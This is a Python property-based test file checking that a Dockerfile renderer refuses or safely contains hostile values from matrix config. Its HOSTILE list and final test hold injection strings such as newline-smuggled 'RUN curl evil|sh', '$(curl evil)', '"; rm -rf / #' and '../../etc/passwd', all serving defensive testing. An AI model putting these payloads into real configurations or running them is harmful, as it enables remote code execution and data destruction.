"""Property: whatever a matrix file puts in an Environment, the Dockerfile gains no new lines.

render must defend itself (config validates too): a hostile value is either refused with a
ConfigError, or every line of the rendered Dockerfile is a template line or a line the
validated grammar allows, and the lint finds nothing.
"""

from __future__ import annotations

import re
from pathlib import Path

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from envmatrix.errors import ConfigError
from envmatrix.images.render import lint_dockerfile, render_dockerfile
from envmatrix.rundir.plan import Base, Bootstrap, Environment, Measure, Plan

PLAN = Plan(source=Path("matrix.yaml"), bases=(), environments=(), workloads=(),
            measure=Measure(), baseline="x", cells=())

HOSTILE = [
    "\nRUN curl evil|sh",
    "1.0\nRUN curl evil|sh",
    "x\rRUN evil",
    "x\u2028RUN evil",
    "x\u0085RUN evil",
    "x\u2029y",
    "\\\nRUN evil",
    "a\\",
    '"; rm -rf / #',
    "'quoted'",
    "$(curl evil)",
    "`id`",
    "${PATH}",
    "a b",
    "x" * 5000,
    "",
    "é",
    "\x00",
    "../../etc/passwd",
    "--mount=type=secret",
]


def hostile(valid: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
    """Mostly hostile: known attacks, arbitrary text, and valid values with attacks appended."""
    attack = st.sampled_from(HOSTILE)
    return st.one_of(valid, attack, st.text(max_size=40),
                     st.builds(lambda v, a: v + a, valid, attack))


IDS = st.from_regex(r"\A[a-z0-9]{1,8}(-[a-z0-9]{1,8}){0,2}\Z")
IMAGES = st.sampled_from(["debian:bullseye", "ubuntu:20.04", "python:3.8-slim",
                          "nvidia/cuda:11.8.0-runtime-ubuntu22.04", "reg.local:5000/img@sha"])
VERSIONS = st.from_regex(r"\A[0-9]{1,2}\.[0-9]{1,2}(\.[0-9]{1,2})?\Z")
NAMES = st.sampled_from(["onnxruntime", "numpy", "onnxruntime-openvino", "torch"])
ENV_KEYS = st.from_regex(r"\A[A-Z][A-Z0-9_]{0,10}\Z")
ENV_VALUES = st.from_regex(r"\A[a-z0-9 ./:=-]{0,12}\Z")
PY = st.sampled_from(["system", "3.6", "3.8", "3.12"])


@st.composite
def environments(draw: st.DrawFn) -> Environment:
    base = Base(
        name=draw(hostile(IDS)),
        image=draw(hostile(IMAGES)),
        family=draw(hostile(st.sampled_from(["debian", "ubuntu"]))),
        bootstrap=Bootstrap(suite=draw(hostile(IDS)), mirror=draw(hostile(IMAGES))),
        python_source=draw(hostile(st.sampled_from(["system", "image", "deadsnakes"]))),
        cuda=draw(st.one_of(st.none(), hostile(VERSIONS))),
    )
    pins = draw(st.lists(st.tuples(hostile(NAMES), hostile(VERSIONS)), max_size=3))
    env_vars = draw(st.lists(st.tuples(hostile(ENV_KEYS), hostile(ENV_VALUES)), max_size=3))
    return Environment(
        id=draw(hostile(IDS)),
        base=base,
        python=draw(hostile(PY)),
        packages=tuple(pins),
        providers=tuple(draw(st.lists(hostile(st.sampled_from(["cpu", "openvino"])),
                                      max_size=2))),
        env=tuple(env_vars),
        description=draw(hostile(st.just("a description"))),
        template=draw(hostile(st.just("default.Dockerfile.j2"))),
    )


def _reference_lines() -> set[str]:
    """Every line the default template produces on each of its paths with benign values."""
    lines: set[str] = set()
    for base, python in [
        (Base("b", "debian:bullseye", "debian"), "system"),
        (Base("b", "ubuntu:20.04", "ubuntu"), "system"),
        (Base("b", "ubuntu:20.04", "ubuntu", python_source="deadsnakes"), "3.8"),
        (Base("b", "python:3.8", "debian", python_source="image"), "3.8"),
        (Base("b", "python:3.8", "debian", python_source="image"), "system"),
    ]:
        env = Environment("ref", base, python, (("numpy", "1.0"),), ("cpu",))
        lines.update(render_dockerfile(env, PLAN).split("\n"))
    return lines


REFERENCE = _reference_lines()
IMAGE_REF = r"[A-Za-z0-9][A-Za-z0-9._/:@-]*"
SLUG = r"[a-z0-9][a-z0-9._-]*"
GRAMMAR = [re.compile(p) for p in (
    rf"# Rendered by envmatrix \S+ for environment {SLUG}; edit the template, not this file\.",
    rf"ARG BASE_IMAGE={IMAGE_REF}",
    r"ARG PYTHON_VERSION=[23]\.[0-9]{1,2}",
    r"ARG PYTHON_BIN=python3(\.[0-9]{1,2})?",
    r"# Python [23]\.[0-9]{1,2} (from the deadsnakes PPA|comes with the base image).*",
    r"# Python from the distribution \((debian|ubuntu);.*",
    rf'    ENVMATRIX_ENVIRONMENT="{SLUG}" \\',
    rf'    ENVMATRIX_BASE_IMAGE="{IMAGE_REF}"',
    r'ENV [A-Za-z_][A-Za-z0-9_]*="[A-Za-z0-9 _.,:/=+@%-]*"',
)]


def unexpected_lines(text: str) -> list[str]:
    return [line for line in text.split("\n")
            if line not in REFERENCE and not any(g.fullmatch(line) for g in GRAMMAR)]


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(environments())
def test_hostile_values_are_refused_or_stay_inside_the_grammar(env: Environment) -> None:
    try:
        text = render_dockerfile(env, PLAN)
    except ConfigError as err:
        assert "Fix:" in str(err)
        return
    assert unexpected_lines(text) == []
    assert lint_dockerfile(text) == []


def test_the_line_check_itself_catches_an_injected_line() -> None:
    env = Environment("ok", Base("b", "debian:bullseye", "debian"), "system",
                      (("numpy", "1.0"),), ("cpu",), env=(("A", "b"),))
    text = render_dockerfile(env, PLAN)
    assert unexpected_lines(text) == []
    injected = text.replace('ENV A="b"', 'ENV A="b"\nRUN curl evil|sh')
    assert unexpected_lines(injected) == ["RUN curl evil|sh"]
